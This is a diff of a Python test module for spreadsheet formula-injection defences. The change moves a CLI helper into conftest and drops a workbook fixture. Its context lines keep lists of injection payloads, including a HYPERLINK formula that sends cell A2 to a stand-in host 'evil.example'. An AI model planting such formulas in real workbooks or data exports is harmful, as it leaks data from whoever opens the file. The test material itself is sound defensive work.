@@ -5,15 +5,13 @@ read back with python-calamine (the text arrives intact)."""
 
 from __future__ import annotations
 
-import shutil
 from pathlib import Path
 
 import openpyxl
 import pandas as pd
 import pytest
-from click.testing import CliRunner
+from conftest import run
 
-from toolkit.cli import cli
 from toolkit.tables import CLAIMS, DENIALS, RULES
 from toolkit.workbook.files import WorkbookFile, read_csv, read_table
 
@@ -28,10 +26,6 @@ PAYLOADS = [DDE, HYPERLINK, "+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"]
 X12_PAYLOADS = [DDE, '=HYPERLINK("evil.example/"&A2)', "+1", "-1+1", "@SUM(1)"]  # no X12 separators in them
 
 
-def run(*args):
-    return CliRunner().invoke(cli, [str(a) for a in args])
-
-
 def formula_cells(path: Path, sheets) -> list[str]:
     wb = openpyxl.load_workbook(path)
     return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets if ws.title in sheets
@@ -44,13 +38,6 @@ def _set_cells(path: Path, sheet: str, header: str, values: dict[int, str]) -> N
     book = WorkbookFile(path)
     book.write_columns(spec, pd.DataFrame({header: list(values.values())}, index=list(values)))
     book.save()
-
-
-@pytest.fixture
-def workbook(tmp_path) -> Path:
-    target = tmp_path / "practice.xlsm"
-    shutil.copy(WORKBOOK, target)
-    return target
 
 
 @pytest.mark.parametrize("payload", PAYLOADS, ids=["dde", "hyperlink", "plus", "minus", "at", "tab", "cr"])
